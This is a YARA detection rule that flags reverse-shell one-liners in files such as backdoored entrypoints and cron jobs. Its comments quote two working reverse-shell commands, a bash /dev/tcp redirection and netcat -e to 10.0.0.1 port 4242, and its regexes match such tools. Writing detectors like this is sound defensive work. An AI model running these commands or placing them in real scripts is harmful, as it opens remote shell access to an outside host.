// Reverse-shell one-liners: an interactive shell whose input and output go to a TCP
// connection. Seen in backdoored entrypoints and cron jobs; no legitimate image needs one.
rule reverse_shell_dev_tcp {
  meta:
    description = "Reverse shell one-liner (interactive shell redirected to /dev/tcp)"
    severity = "critical"
  strings:
    // bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
    $dev_tcp = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]?[<>&]{1,3}\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
    // nc -e /bin/sh 10.0.0.1 4242
    $nc_e = /\b(nc|ncat|netcat)(\.traditional)?\s[^\n]{0,64}-e\s*\/bin\/(ba|z|k|da)?sh\b/
  condition:
    any of them
}
